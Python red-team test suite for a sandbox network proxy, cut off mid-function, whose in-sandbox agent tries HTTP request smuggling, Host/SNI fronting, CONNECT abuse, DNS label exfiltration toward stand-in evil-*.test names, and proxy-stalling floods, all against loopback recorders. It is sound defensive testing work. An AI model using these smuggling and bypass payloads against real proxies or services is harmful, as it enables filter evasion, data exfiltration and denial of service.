#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Red-team attacks on `petri run --net proxy` (issue 12): a hostile tenant
inside the sandbox tries to reach what the allowlist does not allow, to make
the audit stream say something false, or to stall the proxy for others.

    redteam_attacks.py --petri build/petri [--lib build/libpetri.so | --no-lib WHY]
                       [--only REGEX] [--list] [-v]

Each case prints PASS (the attack was refused), FAIL (it got through, with
what the upstream or the audit saw) or SKIP, then "N passed, N failed, N
skipped"; exit status 1 when any case failed.

How: this file is also the attacker.  It is bound read-only into the sandbox
at /rt and run there as `redteam_attacks.py --agent OPS` (raw sockets, DNS by
hand, ClientHellos by hand; stdlib only).  The "upstreams" are recorders this
script starts on the HOST's 127.0.0.1: they speak just enough HTTP (and read
anything else) and keep every byte they receive, so a case says "refused"
only if its marker (a name such as evil-CASE.test) never reached one.  The
allowed names are pinned there with =127.0.0.1.

Nothing here sends a packet anywhere but loopback.  The cases that need the
host to RESOLVE a name (wildcard exfiltration, DNS rebinding) run petri in a
private mount namespace (unshare -m) whose /etc/resolv.conf names a fake
resolver this script runs on 127.0.0.1: the host's real resolver is never
asked (the file itself is not edited).
"""
import argparse
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

# The agent runs this file as /rt/rt.py inside the sandbox: T copies these
# two beside it there.
import probe
from nettest import Case, PetriRun, Skip, petri_part

HERE = os.path.dirname(os.path.abspath(__file__))

# ============================================================================
# The agent: runs INSIDE the sandbox
# ============================================================================


_err = probe.err


def _read_all(s, limit, timeout):
    s.settimeout(timeout)
    buf = b""
    end = "eof"
    try:
        while len(buf) < limit:
            d = s.recv(65536)
            if not d:
                break
            buf += d
    except socket.timeout:
        end = "timeout"
    except OSError as e:
        end = "error %s" % e.errno
    return buf, end


def a_tcp(o):
    """Connect, send o["chunks"] (latin-1 strings) with o["delay"] seconds
    between them, optionally half-close, read the answer."""
    t0 = time.monotonic()
    try:
        s = socket.create_connection((o["host"], o["port"]), timeout=o.get("timeout", 8))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        peer = s.getpeername()[0]
    except OSError as e:
        return dict(_err(e), ms=int((time.monotonic() - t0) * 1000))
    res = {"peer": peer}
    try:
        for i, ch in enumerate(o.get("chunks", [])):
            if i and o.get("delay"):
                time.sleep(o["delay"])
            s.sendall(ch.encode("latin-1") if isinstance(ch, str) else bytes.fromhex(ch["hex"]))
        if o.get("shut"):
            s.shutdown(socket.SHUT_WR)
    except OSError as e:
        res["send_error"] = _err(e)
    buf, end = _read_all(s, o.get("limit", 1 << 20), o.get("read_timeout", 6))
    s.close()
    res.update(resp=buf[:4096].decode("latin-1"), n=len(buf), end=end,
               ms=int((time.monotonic() - t0) * 1000))
    return res


def dns_query(labels, qtype, qid=0x1234):
    return probe.dns_query([lab.encode("latin-1") for lab in labels], qtype, qid)


def a_dns(o):
    q = dns_query(o["labels"], o.get("qtype", 1))
    try:
        if o.get("tcp"):
            s = socket.create_connection(("127.0.0.1", 53), timeout=5)
            m = probe.dns_tcp_exchange(s, q)[2:]
            s.close()
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.sendto(q, ("127.0.0.1", 53))
            m = s.recv(4096)
            s.close()
    except OSError as e:
        return _err(e)
    if len(m) < 12:
        return {"error": "short answer"}
    flags, an = struct.unpack(">H", m[2:4])[0], struct.unpack(">H", m[6:8])[0]
    return {"rcode": flags & 0xF, "ancount": an}


def a_dns_tcp_prefix(o):
    """A DNS/TCP length prefix promising o["len"] bytes, then o["send"]
    bytes of it, then silence: how long until the server closes?"""
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", 53), timeout=5)
        s.sendall(struct.pack(">H", o["len"]) + b"\0" * o.get("send", 0))
        buf, end = _read_all(s, 65537, o.get("read_timeout", 20))
        s.close()
    except OSError as e:
        return _err(e)
    return {"n": len(buf), "end": end, "ms": int((time.monotonic() - t0) * 1000)}


def a_dns_flood(o):
    """UDP queries to the sandbox's DNS server as fast as they go, for
    o["seconds"]; answers are read and dropped."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect(("127.0.0.1", 53))
    n = got = 0
    end = time.monotonic() + o["seconds"]
    while time.monotonic() < end:
        for _ in range(64):
            try:
                s.send(dns_query(["x%d" % n, "flood", "test"], 16, n & 0xFFFF))
                n += 1
            except BlockingIOError:
                break
        try:
            while True:
                s.recv(4096)
                got += 1
        except BlockingIOError:
            pass
    return {"sent": n, "answers": got}


def a_resolve(o):
    try:
        return {"addr": socket.gethostbyname(o["name"])}
    except OSError as e:
        return _err(e)


def client_hello(snis, version=0x0303, extra_ext=b""):
    """A ClientHello (TLS 1.2 framing, TLS 1.3 supported_versions) with one
    server_name extension listing @snis (host_name entries), or none if
    @snis is None."""
    ext = b""
    if snis is not None:
        lst = b"".join(b"\x00" + struct.pack(">H", len(n)) + n.encode("latin-1")
                       for n in snis)
        body = struct.pack(">H", len(lst)) + lst
        ext += struct.pack(">HH", 0, len(body)) + body
    ext += struct.pack(">HHB", 43, 3, 2) + b"\x03\x04"  # supported_versions 1.3
    ext += struct.pack(">HH", 10, 4) + b"\x00\x02\x00\x1d"  # groups: x25519
    ext += struct.pack(">HH", 13, 4) + b"\x00\x02\x08\x04"  # sig algs
    ks = b"\x00\x1d\x00\x20" + b"\x11" * 32
    ext += struct.pack(">HHH", 51, len(ks) + 2, len(ks)) + ks  # key_share
    ext += extra_ext
    hello = struct.pack(">H", version) + b"\x22" * 32 + b"\x20" + b"\x33" * 32
    hello += b"\x00\x04\x13\x01\x00\x2f" + b"\x01\x00"
    hello += struct.pack(">H", len(ext)) + ext
    return b"\x01" + struct.pack(">I", len(hello))[1:] + hello


def records(hs, size):
    """The handshake bytes @hs in TLS records of at most @size bytes."""
    out = b""
    for i in range(0, len(hs), size):
        frag = hs[i:i + size]
        out += b"\x16\x03\x01" + struct.pack(">H", len(frag)) + frag
    return out


def a_tls(o):
    """Send a hand-made ClientHello (o["snis"]; o["record"] bytes per
    record; o["segment"] bytes per TCP send, o["delay"] between)."""
    extra = bytes.fromhex(o.get("extra_ext", ""))
    data = records(client_hello(o.get("snis"), extra_ext=extra), o.get("record", 16384))
    seg = o.get("segment") or len(data)
    chunks = [{"hex": data[i:i + seg].hex()} for i in range(0, len(data), seg)]
    return a_tcp(dict(o, chunks=chunks, read_timeout=o.get("read_timeout", 4)))


def a_bind(o):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if o.get("udp") else socket.SOCK_STREAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind((o["host"], o["port"]))
        if not o.get("udp"):
            s.listen(1)
        return {"bound": True}
    except OSError as e:
        return _err(e)
    finally:
        s.close()


def a_socket(o):
    """Make a socket of o["family"]/o["type"]/o["proto"] and, if given,
    connect or sendto o["to"]."""
    try:
        s = socket.socket(o["family"], o["type"], o.get("proto", 0))
    except OSError as e:
        return dict(_err(e), stage="socket")
    try:
        s.settimeout(3)
        if "to" in o:
            to = tuple(o["to"])
            if o["type"] == socket.SOCK_DGRAM or o["type"] == socket.SOCK_RAW:
                s.sendto(b"x" * 8, to)
                return {"sent": True}
            s.connect(to)
            return {"connected": True}
        return {"created": True}
    except OSError as e:
        return dict(_err(e), stage="use")
    finally:
        s.close()


def a_unix(o):
    """Every unix socket the sandbox can see under o["dirs"]: can it
    connect to one?"""
    found = []
    for d in o["dirs"]:
        for root, dirs, files in os.walk(d):
            for n in dirs + files:
                p = os.path.join(root, n)
                try:
                    if not os.path.islink(p) and (os.stat(p).st_mode & 0o170000) == 0o140000:
                        found.append(p)
                except OSError:
                    pass
    out = []
    for p in found[:50]:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(p)
            out.append({"path": p, "connected": True})
        except OSError as e:
            out.append({"path": p, "errno": e.errno})
        s.close()
    return {"sockets": out}


def a_hold(o):
    """Open o["n"] connections to host:port and keep them (until "release");
    o["send"]: sent on each; o["rcvbuf"]: SO_RCVBUF (bytes) before connecting."""
    held = HOLD.setdefault("socks", [])
    ok = 0
    for _ in range(o["n"]):
        try:
            if o.get("rcvbuf"):  # a client that reads nothing and buffers little
                s = socket.socket()
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, o["rcvbuf"])
                s.settimeout(3)
                s.connect((o["host"], o["port"]))
            else:
                s = socket.create_connection((o["host"], o["port"]), timeout=3)
            if o.get("send"):
                s.sendall(o["send"].encode("latin-1"))
            held.append(s)
            ok += 1
        except OSError:
            pass
    return {"held": ok}


HOLD = {}


def a_release(o):
    for s in HOLD.pop("socks", []):
        s.close()
    return {}


def a_sleep(o):
    time.sleep(o["seconds"])
    return {}


def a_say(o):
    print(o["text"], flush=True)
    return {}


def a_churn(o):
    """Connect and close as fast as possible for o["seconds"]."""
    n = 0
    end = time.monotonic() + o["seconds"]
    while time.monotonic() < end:
        try:
            s = socket.create_connection((o["host"], o["port"]), timeout=2)
            s.close()
            n += 1
        except OSError:
            n += 1
    return {"n": n}


def a_trickle_tls(o):
    """o["n"] connections to host:port, each sent the first o["prefix"]
    bytes of a ClientHello too big to complete (padding, 16-byte records),
    then one more byte on each in turn for o["seconds"]: every byte makes
    the proxy read the whole hello again.  o["pad"]: the padding
    extension's size (65000: a hello over any cap)."""
    padn = o.get("pad", 65000)
    pad = struct.pack(">HH", 21, padn) + b"\0" * padn
    data = records(client_hello([o.get("sni", "t.test")], extra_ext=pad), 16)
    socks = []
    for _ in range(o["n"]):
        try:
            s = socket.create_connection((o["host"], o["port"]), timeout=3)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.sendall(data[:o["prefix"]])
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    sent = 0
    off = o["prefix"]
    end = time.monotonic() + o["seconds"]
    while time.monotonic() < end and off < len(data):
        for s in socks:
            try:
                s.send(data[off:off + 1])
                sent += 1
            except OSError:
                pass
        off += 1
        time.sleep(o.get("pause", 0.002))
    for s in socks:
        s.close()
    return {"conns": len(socks), "bytes": sent}


AGENT_OPS = {"trickle_tls": a_trickle_tls, "tcp": a_tcp, "dns": a_dns, "dns_tcp_prefix": a_dns_tcp_prefix,
             "dns_flood": a_dns_flood, "resolve": a_resolve, "tls": a_tls, "bind": a_bind,
             "socket": a_socket, "unix": a_unix, "hold": a_hold, "release": a_release,
             "sleep": a_sleep, "say": a_say, "churn": a_churn}


def agent(ops):
    out = []
    for o in ops:
        try:
            out.append(AGENT_OPS[o["op"]](o))
        except Exception as e:  # noqa: BLE001
            out.append({"error": "agent: %s: %s" % (type(e).__name__, e)})
    print(json.dumps(out))


# ============================================================================
# The host side
# ============================================================================


class Recorder:
    """An upstream on 127.0.0.1 that keeps every byte it receives and
    answers HTTP like a lenient virtual-hosting server (nginx-like: empty
    lines before a request line skipped, keep-alive, Upgrade declined with
    a 200, CONNECT answered 200 like a forward proxy would): what a real
    upstream behind an allowed name could be."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(256)
        self.port = self.sock.getsockname()[1]
        self.lock = threading.Lock()
        self.raw = []  # bytes per connection
        self.heads = []  # (request line, host)
        self.conns = 0
        threading.Thread(target=self.loop, daemon=True).start()

    def loop(self):
        while True:
            c, _ = self.sock.accept()
            with self.lock:
                self.conns += 1
            threading.Thread(target=self.serve, args=(c,), daemon=True).start()

    def serve(self, c):
        idx = None
        with self.lock:
            self.raw.append(b"")
            idx = len(self.raw) - 1
        c.settimeout(10)
        buf = b""
        try:
            while True:
                d = c.recv(65536)
                if not d:
                    break
                with self.lock:
                    self.raw[idx] += d
                buf += d
                while True:
                    s = buf.lstrip(b"\r\n")
                    e = s.find(b"\r\n\r\n")
                    if e < 0 or not re.match(rb"^[A-Za-z]+ ", s):
                        break
                    head = s[:e].decode("latin-1")
                    buf = s[e + 4:]
                    lines = head.split("\r\n")
                    host = ""
                    clen = 0
                    for ln in lines[1:]:
                        k, _, v = ln.partition(":")
                        if k.strip().lower() == "host":
                            host = v.strip()
                        if k.strip().lower() == "content-length":
                            clen = int(v.strip() or 0)
                    with self.lock:
                        self.heads.append((lines[0], host))
                    buf = buf[clen:]
                    body = ("ok %s %s\n" % (lines[0], host)).encode("latin-1")
                    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                    if re.search(r"(?im)^connection:\s*close", head):
                        raise EOFError
        except (OSError, EOFError):
            pass
        c.close()

    def seen(self, marker):
        m = marker.encode("latin-1")
        with self.lock:
            return any(m in r for r in self.raw)

    def mark(self):
        with self.lock:
            return len(self.raw), len(self.heads), self.conns

    def heads_since(self, mark):
        with self.lock:
            return list(self.heads[mark[1]:])

    def conns_since(self, mark):
        with self.lock:
            return self.conns - mark[2]


class FakeResolver:
    """A DNS server on 127.0.0.1 (UDP) standing in for the host's resolver
    in a private mount namespace: logs every question and answers A queries
    from self.answers (name -> IPv4), NXDOMAIN otherwise."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.answers = {}
        self.questions = []
        self.lock = threading.Lock()
        threading.Thread(target=self.loop, daemon=True).start()

    def loop(self):
        while True:
            q, peer = self.sock.recvfrom(4096)
            try:
                i, labels = 12, []
                while q[i]:
                    labels.append(q[i + 1:i + 1 + q[i]].decode("latin-1"))
                    i += 1 + q[i]
                qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
                name = ".".join(labels).lower()
                with self.lock:
                    self.questions.append((name, qtype))
                ip = self.answers.get(name)
                flags = 0x8180 if (ip and qtype == 1) or ip else 0x8183
                ans = b""
                if ip and qtype == 1:
                    ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton(ip)
                r = q[:2] + struct.pack(">HHHHH", flags, 1, 1 if ans else 0, 0, 0) + \
                    q[12:i + 5] + ans
                self.sock.sendto(r, peer)
            except (IndexError, struct.error):
                pass

    def asked(self, needle):
        with self.lock:
            return [q for q in self.questions if needle in q[0]]


class Run(PetriRun):
    def __init__(self, t, argv, proc, audit):
        super().__init__(t, argv, proc, audit)
        self.audit = audit
        out = (self.j.get("stdout") or "").strip().splitlines()
        try:
            self.res = json.loads(out[-1])
        except (ValueError, IndexError):
            self.res = None

    def no_json(self, proc):
        return "no JSON: %r %r" % (proc.stdout[-300:], proc.stderr[-300:])

    def describe(self):
        return "petri: %s; stdout %r; stderr %r" % (
            self.j.get("error") or self.j.get("reason"), (self.j.get("stdout") or "")[-300:],
            (self.j.get("stderr") or "")[-300:])

    def events(self):
        if self._events is None:
            self._events = []
            p = subprocess.run([self.t.petri, "audit", "json", self.audit], capture_output=True,
                               text=True, timeout=60)
            for line in p.stdout.splitlines():
                try:
                    e = json.loads(line)
                except ValueError:
                    continue
                pp = petri_part(e)
                if e.get("class_uid") in (4001, 4002, 4003) and \
                        pp.get("kind") != "network_activity":
                    self._events.append(e)
        return self._events

    def _parts(self, kind):
        return [petri_part(e)[kind] for e in self.events()
                if petri_part(e).get(kind) is not None]

    def conn_events(self):
        return self._parts("net_connection")

    def dns_events(self):
        return self._parts("dns_query")


class T:
    def __init__(self, petri, lib, tmp, verbose):
        self.petri = petri
        self.lib = lib
        self.tmp = tmp
        self.verbose = verbose
        self.nrun = 0
        self.fix = os.path.join(tmp, "fix")
        os.makedirs(self.fix)
        shutil.copy(os.path.abspath(__file__), os.path.join(self.fix, "rt.py"))
        for f in ("probe.py", "nettest.py"):
            shutil.copy(os.path.join(HERE, f), os.path.join(self.fix, f))
        os.chmod(tmp, 0o755)
        os.chmod(self.fix, 0o755)
        os.chmod(os.path.join(self.fix, "rt.py"), 0o644)
        self.up = Recorder()  # a.test, plain HTTP
        self.tls = Recorder()  # t.test, "TLS" (records the ClientHello)
        self.P, self.Q = self.up.port, self.tls.port
        self.allow = ["a.test:%d=127.0.0.1" % self.P, "t.test:%d=127.0.0.1" % self.Q]

    def run(self, ops, allow=None, extra=(), timeout=60, wrap=None, env=None):
        self.nrun += 1
        audit = os.path.join(self.tmp, "audit-%d.bin" % self.nrun)
        argv = [self.petri, "run", "--json", "--timeout", str(timeout), "--audit", audit,
                "--bind", "%s:/rt" % self.fix, "--net", "proxy"]
        for a in self.allow if allow is None else allow:
            argv += ["--allow", a]
        argv += list(extra) + ["--", "/usr/bin/python3", "/rt/rt.py", "--agent",
                               ops_arg(self.fix, ops)]
        if wrap:
            argv = wrap(argv)
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=timeout + 60,
                              env=env)
        r = Run(self, argv, proc, audit)
        if self.verbose:
            print("    -> %s\n       %s" % (r.describe(), json.dumps(r.res)[:2000]))
        if r.res is None:
            raise AssertionError("agent did not run: " + r.describe())
        return r


def ops_arg(fix, ops):
    """The agent's argument for @ops: inline, or a file in the bound
    directory when it is long."""
    text = json.dumps(ops)
    if len(text) < 60000:
        return text
    name = "ops-%d-%d.json" % (os.getpid(), len(os.listdir(fix)))
    with open(os.path.join(fix, name), "w") as f:
        f.write(text)
    os.chmod(os.path.join(fix, name), 0o644)
    return "@/rt/" + name


def get(target, host, extra=""):
    return "GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, host, extra)


def tcp(host, port, *chunks, **kw):
    return dict(op="tcp", host=host, port=port, chunks=list(chunks), **kw)


def status(res):
    m = re.match(r"HTTP/1\.[01] (\d{3})", res.get("resp", ""))
    return int(m.group(1)) if m else None


# ---- helpers for judging ------------------------------------------------------


def not_reached(c, t, marker, rec=None):
    for r in ([rec] if rec else [t.up, t.tls]):
        c.check(not r.seen(marker), "the upstream on 127.0.0.1:%d received %r" % (r.port, marker))


def audited_denied(c, r, needle, reason=None):
    evs = [e for e in r.conn_events() if needle in json.dumps(e)]
    den = [e for e in evs if not e.get("allowed")]
    if reason:
        den = [e for e in den if reason in (e.get("reason") or "")]
    c.check(den, "no refusing NetConnection event mentioning %r%s; saw %s" % (
        needle, " with reason %r" % reason if reason else "",
        json.dumps(r.conn_events())[:600]))


# ============================================================================
# The attacks.  PASS = refused.
# ============================================================================

# ---- Host / SNI fronting on an allowed upstream -------------------------------


def case_transparent_absolute_form(t, c):
    """Transparent path: an absolute-form target naming another host, with
    a Host header that is the allowed name.  The origin must use the
    target's host (RFC 9112 3.2.2), so the upstream is asked for evil.test
    while the audit says a.test."""
    m = "evil-abs.test"
    r = t.run([tcp("a.test", t.P, get("http://%s/x" % m, "a.test", "Connection: close\r\n"))])
    not_reached(c, t, m, t.up)
    lies = [e for e in r.conn_events() if m not in json.dumps(e)
            and e.get("http_method") == "GET" and (e.get("decision") or "").startswith("allow")]
    if lies:
        c.note("audit event allowing it names only a.test: %s" % json.dumps(lies[0])[:300])


def case_transparent_connect_method(t, c):
    """Transparent path: a CONNECT request for another host, Host: the
    allowed name; then the tunnel."""
    m = "evil-conn.test"
    t.run([tcp("a.test", t.P, "CONNECT %s:443 HTTP/1.1\r\nHost: a.test\r\n\r\n" % m,
               get("/", m), delay=0.3, read_timeout=2)])
    not_reached(c, t, m, t.up)


def case_transparent_leading_crlf(t, c):
    """Transparent path: an empty line before the request line.  Servers
    skip it (RFC 9112 2.2; nginx, Apache, Node do); the proxy's sniffer sees
    neither TLS nor HTTP and passes the stream through unchecked."""
    m = "evil-crlf.test"
    r = t.run([tcp("a.test", t.P, "\r\n" + get("/", m, "Connection: close\r\n"))])
    not_reached(c, t, m, t.up)
    c.check(not any(e.get("allowed") for e in r.conn_events()),
            "an allowed event: %s" % json.dumps(r.conn_events())[:300])


def case_transparent_unlisted_method(t, c):
    """Transparent path: a method the sniffer does not know with a target
    that does not start with '/' or 'h' (OPTIONS-like '*'), or a long one."""
    m = "evil-meth.test"
    t.run([tcp("a.test", t.P, "PROPFIND * HTTP/1.1\r\nHost: %s\r\n\r\n" % m, read_timeout=2),
           tcp("a.test", t.P, "A" * 25 + " / HTTP/1.1\r\nHost: %s\r\n\r\n" % m,
               read_timeout=2)])
    not_reached(c, t, m, t.up)


def case_transparent_upgrade_declined(t, c):
    """Transparent path: a request with Connection: upgrade that the
    upstream declines (200, keep-alive); the next request on the
    connection names another host and is no longer parsed."""
    m = "evil-upg.test"
    t.run([tcp("a.test", t.P,
               get("/", "a.test", "Connection: upgrade\r\nUpgrade: websocket\r\n"),
               get("/", m, "Connection: close\r\n"), delay=0.5)])
    not_reached(c, t, m, t.up)


def case_proxy_connect_plain_http(t, c):
    """Explicit proxy: CONNECT to the allowed name, then plain HTTP inside
    the tunnel with another Host (the Host is checked on the transparent
    path; inside a CONNECT tunnel it is not)."""
    m = "evil-tun.test"
    t.run([tcp("127.0.0.1", 3128, "CONNECT a.test:%d HTTP/1.1\r\nHost: a.test\r\n\r\n" % t.P,
               get("/", m, "Connection: close\r\n"), delay=0.5)])
    not_reached(c, t, m, t.up)


def case_proxy_absolute_upgrade(t, c):
    """Explicit proxy: an absolute-URI request with Connection: upgrade;
    the upstream declines and keeps the connection; the client's next
    request (another Host) is forwarded as tunnel bytes."""
    m = "evil-pupg.test"
    t.run([tcp("127.0.0.1", 3128,
               get("http://a.test:%d/" % t.P, "a.test:%d" % t.P,
                   "Connection: upgrade\r\nUpgrade: websocket\r\n"),
               get("/", m, "Connection: close\r\n"), delay=0.5)])
    not_reached(c, t, m, t.up)


def case_transparent_pipelined(t, c):
    """Refused: pipelined second request for another host; a head sent
    byte by byte; chunked body then a request for another host."""
    m = "evil-pipe.test"
    r = t.run([tcp("a.test", t.P, get("/1", "a.test") + get("/2", m)),
               tcp("a.test", t.P, *list(get("/", m)), delay=0.005),
               tcp("a.test", t.P, "POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked"
                   "\r\n\r\n5;ext=\"q\"\r\nhello\r\n0\r\n\r\n" + get("/3", m))])
    not_reached(c, t, m, t.up)
    audited_denied(c, r, m, "host mismatch")


def case_smuggling_framing(t, c):
    """Refused: CL+TE, two Host headers, obs-fold, space before colon, a
    lone LF, TE not ending in chunked; absolute URI whose Host differs."""
    m = "evil-smug.test"
    bad = [
        "POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked"
        "\r\n\r\n0\r\n\r\n" + get("/", m),
        "GET / HTTP/1.1\r\nHost: a.test\r\nHost: %s\r\n\r\n" % m,
        "GET / HTTP/1.1\r\nHost: a.test\r\nX: y\r\n Host: %s\r\n\r\n" % m,
        "GET / HTTP/1.1\r\nHost : %s\r\n\r\n" % m,
        "GET / HTTP/1.1\nHost: %s\n\n" % m,
        "POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n"
        "0\r\n\r\n" + get("/", m),
        "POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 1, 40\r\n\r\nx" + get("/", m),
        "GET / HTTP/1.1\r\nHost: a.test\r\nX-Big: %s\r\nX-M: %s\r\n\r\n" % ("b" * 70000, m),
    ]
    t.run([tcp("a.test", t.P, b) for b in bad] +
          [tcp("127.0.0.1", 3128, get("http://a.test:%d/" % t.P, m))])
    not_reached(c, t, m, t.up)


def case_http10_no_host(t, c):
    """Refused: HTTP/1.0 without Host on the transparent path (421)."""
    r = t.run([tcp("a.test", t.P, "GET /nohost HTTP/1.0\r\n\r\n")])
    c.check(status(r.res[0]) == 421, "answer: %r" % r.res[0].get("resp", "")[:80])
    c.check(not [h for h in t.up.heads if "/nohost" in h[0]], "reached the upstream")
    audited_denied(c, r, "/nohost", "no host header")


# ---- names and authorities on the explicit proxy -------------------------------


def case_proxy_names(t, c):
    """Refused with 400/403, never reaching an upstream: userinfo, suffix
    and prefix names, percent-encoding, NUL/CR in names, very long names,
    IDNA homographs, odd CONNECT authorities and IP literal forms."""
    P = t.P
    abs_targets = [
        "http://a.test@evil-n1.test:%d/" % P,
        "http://a.test.evil-n2.test:%d/" % P,
        "http://evil-n3.a.test:%d/" % P,
        "http://a%%2etest:%d/evil-n4" % P,
        "http://xn--80ak6aa92e.test:%d/evil-n5" % P,  # Cyrillic homograph
        "http://%s.test:%d/evil-n6" % ("a" * 300, P),
        "http://127.0.0.1:%d/evil-n7" % P,
        "http://2130706433:%d/evil-n8" % P,
        "http://0x7f000001:%d/evil-n9" % P,
        "http://127.1:%d/evil-n10" % P,
        "http://[::ffff:127.0.0.1]:%d/evil-n11" % P,
        "http://[::1]:%d/evil-n12" % P,
        "http://localhost:%d/evil-n13" % P,
        "http://a.test:%d\\@evil-n14.test/" % P,
        "http://a.test:%d#@evil-n15.test/" % P,
    ]
    connects = [
        "a.test:443@evil-c1.test",
        "evil-c2.test:%d" % P,
        "[::ffff:127.0.0.1]:%d" % P,
        "0x7f000001:%d" % P,
        "127.1:%d" % P,
        "a.test",  # no port
        "a.test:0%d" % P,  # leading zero: same port, allowed (checked separately)
        "a.test\x00.evil-c3.test:%d" % P,
        "a.test\r\nX-evil-c4: 1:%d" % P,
        "a.test:%d" % (P + 1 if P < 65535 else P - 1),
        "t.test:%d" % P,  # a listed name on another listed name's port
    ]
    ops = [tcp("127.0.0.1", 3128, get(u, "x", "Connection: close\r\n").replace(
        "Host: x\r\n", "")) for u in abs_targets]
    # After each refused CONNECT, a request as if it had been accepted.
    ops += [tcp("127.0.0.1", 3128, "CONNECT %s HTTP/1.1\r\n\r\n" % a, *(
        [] if a.startswith("a.test:0") else
        ["GET /after HTTP/1.1\r\nHost: evil-after.test\r\n\r\n"]), delay=0.3,
        read_timeout=2) for a in connects]
    r = t.run(ops)
    for i, u in enumerate(abs_targets):
        st = status(r.res[i])
        c.check(st in (400, 403, 421), "%s: answer %r" % (u, r.res[i].get("resp", "")[:60]))
    for i, a in enumerate(connects):
        st = status(r.res[len(abs_targets) + i])
        if a.startswith("a.test:0"):
            c.check(st == 200, "CONNECT %r (same port, leading 0): %s" % (a, st))
            continue
        c.check(st in (400, 403), "CONNECT %r: answer %r" % (
            a, r.res[len(abs_targets) + i].get("resp", "")[:60]))
    for k in range(1, 16):
        not_reached(c, t, "evil-n%d" % k)
    for k in range(1, 5):
        not_reached(c, t, "evil-c%d" % k)
    heads = [h for h in t.up.heads if "evil-after" in h[1]]
    c.check(not heads, "a refused CONNECT's next bytes reached the upstream: %s" % heads)


def case_proxy_host_disagrees(t, c):
    """Refused (421): absolute URI for the allowed name, Host header for
    another; and the reverse (absolute URI for another)."""
    m = "evil-hd.test"
    r = t.run([tcp("127.0.0.1", 3128, get("http://a.test:%d/" % t.P, m)),
               tcp("127.0.0.1", 3128, get("http://%s:%d/" % (m, t.P), "a.test:%d" % t.P))])
    c.check(status(r.res[0]) == 421, "first: %r" % r.res[0].get("resp", "")[:60])
    c.check(status(r.res[1]) == 403, "second: %r" % r.res[1].get("resp", "")[:60])
    not_reached(c, t, m)


def case_normalised_names_allowed(t, c):
    """Not an attack: case and a trailing dot still name a.test (allowed),
    so the refusals above are not refusing everything."""
    r = t.run([tcp("127.0.0.1", 3128, get("http://A.TEST.:%d/norm" % t.P, "A.TEST.:%d" % t.P,
                                         "Connection: close\r\n"))])
    c.check(status(r.res[0]) == 200, "answer %r" % r.res[0].get("resp", "")[:80])


# ---- TLS ------------------------------------------------------------------------


def case_tls_sni(t, c):
    """Refused on the transparent path: SNI another name, two SNIs, SNI
    another name split over many records and 1-byte segments.  Allowed:
    the right SNI with a trailing dot, in records of 10 bytes."""
    Q = t.Q
    ops = [dict(op="tls", host="t.test", port=Q, snis=["evil-s1.test"]),
           dict(op="tls", host="t.test", port=Q, snis=["t.test", "evil-s2.test"]),
           dict(op="tls", host="t.test", port=Q, snis=["evil-s3.test"], record=7, segment=1),
           dict(op="tls", host="t.test", port=Q, snis=["evil-s4.test"], record=64,
                segment=100, delay=0.05),
           dict(op="tls", host="t.test", port=Q, snis=["t.test.", "ok-tls-dot"][:1], record=10)]
    r = t.run(ops)
    for k in range(1, 5):
        not_reached(c, t, "evil-s%d" % k, t.tls)
        audited_denied(c, r, "evil-s%d" % k if k != 2 else "t.test",
                       "sni mismatch" if k != 2 else "malformed")
    c.check(t.tls.seen("t.test."), "the allowed ClientHello (SNI 't.test.', 10-byte records) "
            "did not reach the upstream: %r" % r.res[4])


def case_tls_no_sni(t, c):
    """A ClientHello without SNI on the transparent path: nothing checks
    the name the client means; the upstream gets it (the client could then
    ask for any virtual host inside the TLS).  Refused if it never reaches
    the upstream."""
    mk = t.tls.mark()
    t.run([dict(op="tls", host="t.test", port=t.Q, snis=None)])
    c.check(t.tls.conns_since(mk) == 0, "a ClientHello without SNI reached the upstream")


def case_tls_port_plaintext(t, c):
    """Refused: plain HTTP to the TLS port with Host another name; CONNECT
    then a ClientHello for another name (CONNECT's own check)."""
    m = "evil-tp.test"
    r = t.run([tcp("t.test", t.Q, get("/", m)),
               tcp("127.0.0.1", 3128, "CONNECT t.test:%d HTTP/1.1\r\n\r\n" % t.Q,
                   {"hex": records(client_hello(["evil-tc.test"]), 16384).hex()}, delay=0.3)])
    not_reached(c, t, m, t.tls)
    not_reached(c, t, "evil-tc.test", t.tls)
    audited_denied(c, r, "evil-tc.test", "sni mismatch")


# ---- DNS --------------------------------------------------------------------------


def case_dns_exfil(t, c):
    """Refused (NXDOMAIN / no data, no address): data labels in TXT, NULL,
    ANY, A, AAAA queries for names not listed, over UDP and TCP; binary
    labels; and an A for an allowed name under data labels."""
    data = "6578666967" * 6
    ops = []
    for qt in (16, 10, 255, 1, 28):
